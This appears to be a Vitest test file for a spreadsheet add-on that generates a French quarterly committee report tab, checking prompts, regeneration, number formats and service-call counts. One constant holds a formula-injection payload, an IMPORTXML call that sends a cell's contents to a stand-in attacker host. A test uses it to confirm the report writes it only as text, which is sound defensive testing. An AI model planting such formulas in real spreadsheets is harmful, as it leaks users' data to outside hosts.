// Préparer le comité trimestriel through the bundle (SPEC §3, §4 v2): the quarter prompt (suggestion
// around the 15th of a quarter's first month, bad entries re-asked, Annuler), the tab written and
// activated, regeneration replacing only that tab, input tabs never written, calls flat in rows.
import { describe, expect, it } from 'vitest';
import type { Emulator } from '../../emulator/index';
import { exampleBook, exampleBookAtScale, inputSnapshot, rowStarting } from '../report/support';

const T3 = 'Comité 2026-T3';
const EVIL_FORMULA = '=IMPORTXML("http://evil.example/?"&A1;"//a")';

/** Every sheet but `except`, as the inspector sees it (values, formats, notes…). */
function othersSnapshot(emu: Emulator, except: string): unknown {
  return emu.book.sheetNames().filter((n) => n !== except).map((n) => ({ n, s: emu.book.snapshot(n) }));
}

function countCalls(emu: Emulator, quarter: string): { total: number; byMethod: Record<string, number> } {
  emu.calls.reset();
  emu.run('boussoleComiteTrimestrielPour', quarter);
  return { total: emu.calls.total(), byMethod: emu.calls.byMethod() };
}

describe('Préparer le comité trimestriel (menu)', () => {
  it('suggests the quarter just ended on 15 October, takes it on an empty answer, and says the tab is ready', () => {
    const emu = exampleBook(new Date(2026, 9, 15, 9));
    emu.user.answerPrompt('', 'OK');
    const result = emu.run('boussoleComiteTrimestriel');
    expect(emu.ui.prompts[0]?.prompt).toContain('au format AAAA-Tn (laisser vide pour 2026-T3)');
    expect(result).toEqual({ feuille: T3 });
    expect(emu.book.activeSheet()).toBe(T3);
    expect(emu.ui.toasts.at(-1)?.message).toBe('Le comité du 3e trimestre 2026 est prêt dans l’onglet « Comité 2026-T3 » (une page A4).');
    const dialog = emu.ui.dialogs.at(-1);
    expect(dialog?.title).toBe('Comité prêt');
    expect(dialog?.html).toMatch(/export\?format=pdf&amp;gid=\d+&amp;size=A4&amp;portrait=true&amp;fitw=true/);
  });

  it('suggests the current quarter from the 16th (16 October → 2026-T4)', () => {
    const emu = exampleBook(new Date(2026, 9, 16, 9));
    emu.user.answerPrompt('', 'OK');
    emu.run('boussoleComiteTrimestriel');
    expect(emu.ui.prompts[0]?.prompt).toContain('laisser vide pour 2026-T4');
    expect(emu.book.sheetNames()).toContain('Comité 2026-T4');
  });

  it('re-asks on a bad entry with a French message naming AAAA-Tn, and stops on Annuler without writing', () => {
    const emu = exampleBook();
    emu.user.answerPrompt('2026-T5', 'OK');
    emu.user.answerPrompt('T3', 'OK');
    emu.user.answerPrompt('', 'CANCEL');
    const sheets = emu.book.sheetNames();
    emu.run('boussoleComiteTrimestriel');
    expect(emu.ui.prompts).toHaveLength(3);
    expect(emu.ui.prompts[0]?.prompt).toContain('laisser vide pour 2026-T4'); // 18 November
    expect(emu.ui.prompts[1]?.prompt).toContain('« 2026-T5 » n’est pas un trimestre valide : tapez l’année, un tiret, T puis le numéro du trimestre (1 à 4), au format AAAA-Tn (par exemple 2026-T1).');
    expect(emu.ui.prompts[2]?.prompt).toContain('« T3 » n’est pas un trimestre valide');
    expect(emu.book.sheetNames()).toEqual(sheets);
    expect(emu.ui.dialogs).toHaveLength(0);
  });

  it('accepts a typed « 2026-t3 » with spaces', () => {
    const emu = exampleBook();
    emu.user.answerPrompt(' 2026-t3 ', 'OK');
    expect(emu.run('boussoleComiteTrimestriel')).toEqual({ feuille: T3 });
  });
});

describe('boussoleComiteTrimestrielPour', () => {
  it('writes the one-page tab at the end; regenerating replaces that tab only; input tabs are never written', () => {
    const emu = exampleBook();
    const inputs = inputSnapshot(emu);
    expect(emu.run('boussoleComiteTrimestrielPour', '2026-T3')).toEqual({ feuille: T3 });
    expect(emu.book.sheetNames().at(-1)).toBe(T3);
    const first = emu.book.snapshot(T3);
    const others = othersSnapshot(emu, T3);
    const count = emu.book.sheetNames().length;
    emu.book.setValues(T3, 'A1:B2', [['griffonné', 1], [2, 3]]);
    emu.book.setValues(T3, 'H90', [['reste d’une version précédente']]);
    emu.run('boussoleComiteTrimestrielPour', '2026-T3');
    expect(emu.book.snapshot(T3)).toEqual(first);
    expect(othersSnapshot(emu, T3)).toEqual(others);
    expect(emu.book.sheetNames().length).toBe(count);
    expect(inputSnapshot(emu)).toEqual(inputs);
    expect(emu.lock.writesWithoutLock()).toBe(0);
  });

  it('writes amounts with the report’s formats and a formula-looking action name as text', () => {
    const emu = exampleBook();
    emu.book.setValues('Backlog', 'B2', [[EVIL_FORMULA]]);
    emu.book.setValues('Backlog', 'L2', [['Préparer']]); // Décision: listed among the ideas to prepare
    emu.run('boussoleComiteTrimestrielPour', '2026-T3');
    const values = emu.book.values(T3);
    expect(rowStarting(values, `${EVIL_FORMULA} (B-`)).toBeGreaterThan(0);
    expect(emu.book.formulas(T3).flat().every((f) => f === '')).toBe(true);
    const budget = rowStarting(values, 'Budget par horizon');
    const total = rowStarting(values, 'Total', budget);
    expect(emu.book.numberFormats(T3, `B${total + 1}:E${total + 1}`)).toEqual([Array(4).fill('#,##0 "€"')]);
    expect(values[budget]?.slice(1)).toEqual(['Prévu trimestre', 'Réel trimestre', 'Prévu cumulé', 'Réel à date']);
  });

  it('refuses a bad quarter with a French error and writes nothing', () => {
    const emu = exampleBook();
    const before = emu.book.sheetNames();
    expect(() => emu.run('boussoleComiteTrimestrielPour', '2026-13')).toThrow(/« 2026-13 » n’est pas un trimestre valide : .*AAAA-Tn/);
    expect(emu.book.sheetNames()).toEqual(before);
  });

  it('makes the same service calls at 1× and 10× the example (first run and regeneration)', () => {
    const one = exampleBookAtScale(1);
    const ten = exampleBookAtScale(10);
    expect(ten.book.values('Plan').length).toBe(1 + 420);
    const first1 = countCalls(one, '2026-T3');
    const first10 = countCalls(ten, '2026-T3');
    expect(first10.byMethod).toEqual(first1.byMethod);
    const again1 = countCalls(one, '2026-T3');
    const again10 = countCalls(ten, '2026-T3');
    expect(again10.byMethod).toEqual(again1.byMethod);
    // Ten tabs read once each (the eight input tabs, Historique, the plan snapshot); one insert, one
    // setValues, the formats in one call each; nothing else is written.
    expect(first1.byMethod['Sheet.getSheetValues']).toBe(10);
    expect(first1.byMethod['Range.getValues']).toBeUndefined();
    expect(first1.byMethod['Spreadsheet.insertSheet']).toBe(1);
    expect(first1.byMethod['Range.setValues']).toBe(1);
    expect(again1.byMethod['Spreadsheet.insertSheet']).toBeUndefined();
    expect(again1.byMethod['Sheet.clear']).toBe(1);
    expect(again1.byMethod['Range.setValues']).toBe(1);
    console.log(`comité calls: first ${first1.total}, regeneration ${again1.total}`, JSON.stringify(first1.byMethod));
    expect(first1.total).toBeLessThanOrEqual(45);
    expect(again1.total).toBeLessThanOrEqual(45);
  });
});
